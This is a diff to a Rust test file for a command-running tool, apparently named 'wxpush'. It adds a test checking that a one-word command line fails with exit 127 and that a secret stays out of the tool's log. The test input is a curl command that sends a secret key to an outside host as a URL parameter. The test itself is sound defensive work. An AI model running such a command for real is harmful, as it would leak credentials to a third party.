@@ -9,9 +9,9 @@ use std::time::{Duration, Instant};
 use nix::sys::signal::{Signal, kill};
 use nix::unistd::Pid;
 
-use crate::standin::Fault;
+use crate::standin::{Fault, SECRET};
 use crate::support::{
-    GETTOKEN, SEND, Sandbox, config, flush, for_each, redirected, set_up, sh, texts, waiting,
+    GETTOKEN, SEND, Sandbox, Words, config, flush, for_each, redirected, set_up, sh, texts, waiting,
 };
 
 #[test]
@@ -227,4 +227,21 @@ fn much_output_takes_little_memory() {
     assert_eq!(count, size);
     // The debug build alone has some 15 MiB in memory, most of it code.
     assert!((1..24 << 10).contains(&most), "{most} KiB");
+}
+
+#[test]
+fn a_line_in_one_word_is_named_by_its_program_alone() {
+    let (_standin, sandbox) = set_up();
+    let line = format!("curl -s https://example.com/send?key={SECRET}");
+    let outcome = sandbox
+        .wxpush("run --")
+        .arg(line)
+        .exits(127)
+        .says("one pair of quotes");
+    assert!(
+        outcome.stderr.contains("curl cannot be run"),
+        "{}",
+        outcome.stderr
+    );
+    sandbox.read("wxpush.log").lacks(SECRET);
 }
